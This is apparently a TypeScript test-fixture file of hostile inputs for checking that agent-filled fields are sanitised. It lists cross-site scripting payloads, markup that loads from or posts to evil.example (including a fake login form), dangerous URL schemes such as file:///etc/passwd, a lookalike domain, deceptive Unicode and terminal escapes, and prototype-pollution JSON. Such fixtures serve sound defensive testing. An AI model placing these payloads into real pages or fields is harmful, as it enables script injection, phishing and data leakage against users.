/**
 * What an attacker would put into a field that an agent fills. Whatever of it runs calls `ran()`, opens a dialog,
 * asks another host for something, or leaves an element behind.
 */
export const hostileTexts: readonly string[] = [
  "</script><script>ran()</script>",
  "<img src=x onerror=ran()>",
  "<svg onload=ran()><animate onbegin=ran() attributeName=x dur=1s></svg>",
  `<iframe srcdoc="<script>parent.ran()</script>"></iframe>`,
  `"><a href="javascript:ran()" onmouseover='alert(1)' style="position:fixed;inset:0">x</a>`,
  "</style><style>*{background:url(//evil.example/css)}</style>",
  "<base href=//evil.example/><meta http-equiv=refresh content='0;url=//evil.example/'>",
  "<link rel=stylesheet href=//evil.example/x.css><form action=//evil.example/><button>Log in</button></form>",
  "</textarea></title></noscript><details open ontoggle=alert(2)>",
  "--><!--<script>ran()",
  "{{constructor.constructor('ran()')()}}${ran()}#{ran()}",
  "[click](javascript:ran()) ![shown](https://evil.example/pixel.png) <https://evil.example/auto>",
];

export const hostileAddresses: readonly string[] = [
  "javascript:ran()//",
  "JaVaScRiPt\t:ran()",
  "data:text/html,<script>ran()</script>",
  "vbscript:ran()",
  "https://\u0430pple.com/login",
  "//evil.example/x",
  "file:///etc/passwd",
];

/** Text that shows something else than it is, or that a terminal would obey. */
export const deceptiveText =
  "invoice\u202egnp.exe\u2066 zero\u200bwidth nul\u0000 bell\u0007 \u001b[31mred \u009b32m soft\u00adhyphen \ufeff";

/** Names that objects have already. */
export const pollution = `{"__proto__":{"polluted":"yes"},"constructor":{"prototype":{"polluted":"yes"}},"toString":"x","hasOwnProperty":1}`;

/** One field with everything in it. */
export const everything = [...hostileTexts, ...hostileAddresses, deceptiveText].join(" ");
